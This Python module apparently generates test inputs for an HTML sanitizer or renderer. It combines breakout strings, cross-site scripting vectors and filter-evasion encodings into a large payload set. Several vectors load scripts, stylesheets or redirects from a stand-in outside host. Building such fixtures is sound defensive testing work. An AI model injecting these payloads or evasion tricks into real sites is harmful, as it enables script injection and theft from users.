"""Scripts, frames and forms in disguise: breakouts × vectors × disguises.

A breakout leaves the place where the words stand; a vector does harm if it is taken for markup; a
disguise hides it from what looks for it.
"""

from __future__ import annotations

from collections.abc import Callable

CALL = "alert(1)"
"""What every vector calls; the browser's own is replaced before any page is loaded."""
OUTSIDE = "https://outside.example/"

BREAKOUTS = (
    "",
    '"',
    "'",
    ">",
    '">',
    "'>",
    "`",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</svg></math>",
    "-->",
    "]]>",
    "\n\n",
    "*/",
    "\\",
    "}}",
)

VECTORS = (
    f"<script>{CALL}</script>",
    f'<script src="{OUTSIDE}a.js"></script>',
    f"<img src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f'<a href="javascript:{CALL}" autofocus onfocus={CALL}>a</a>',
    f'<iframe srcdoc="<script>{CALL}</script>"></iframe>',
    f"<details open ontoggle={CALL}>x</details>",
    f'<meta http-equiv="refresh" content="0;url={OUTSIDE}">',
    f'<base href="{OUTSIDE}">',
    f'<object data="javascript:{CALL}"></object>',
    f'<link rel="stylesheet" href="{OUTSIDE}a.css">',
    f"<style>@import '{OUTSIDE}b.css';</style>",
    f'<form action="javascript:{CALL}"><input autofocus onfocus={CALL}></form>',
    f'<svg><animate onbegin={CALL} attributeName="x" dur="1s"/></svg>',
    f'<x xmlns="http://www.w3.org/1999/xhtml"><script>{CALL}</script></x>',
    f" onmouseover={CALL} onfocus={CALL} autofocus tabindex=1 x=",
    f"[words](javascript:{CALL})",
    f"![words]({OUTSIDE}a.png)",
    f'{{: onclick="{CALL}" style="background:url({OUTSIDE}c.png)" }}',
    f"<javascript:{CALL}>",
    f"${{{CALL}}}",
    f"{{{{ {CALL} }}}}",
    f";{CALL}//",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
)


def _mixed_case(text: str) -> str:
    return "".join(c.upper() if n % 2 else c.lower() for n, c in enumerate(text))


def _split(text: str) -> str:
    return text.replace("script", "scr\tipt").replace("onerror", "on\u200berror")


def _slashes(text: str) -> str:
    return text.replace(" ", "/")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _numbers(text: str) -> str:
    return text.replace("javascript", "&#106;avascript").replace("<", "&#x3C;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞")


def _separated(text: str) -> str:
    return text.replace(" ", "\u2028").replace("=", "\u2029=")


def _as_is(text: str) -> str:
    return text


DISGUISES: tuple[Callable[[str], str], ...] = (
    _as_is,
    _mixed_case,
    _split,
    _slashes,
    _entities,
    _numbers,
    _percent,
    _escaped,
    _wide,
    _separated,
)


def payloads() -> tuple[str, ...]:
    """Every one of them once, in an order that mixes them."""
    made = {
        breakout + disguise(vector)
        for breakout in BREAKOUTS
        for vector in VECTORS
        for disguise in DISGUISES
    }
    chosen = sorted(made, key=lambda text: (hash_of(text), text))
    return tuple(chosen)


def hash_of(text: str) -> int:
    """A number that depends on the text alone: `hash` is another in every process."""
    number = 5381
    for character in text:
        number = (number * 33 + ord(character)) % 2**32
    return number
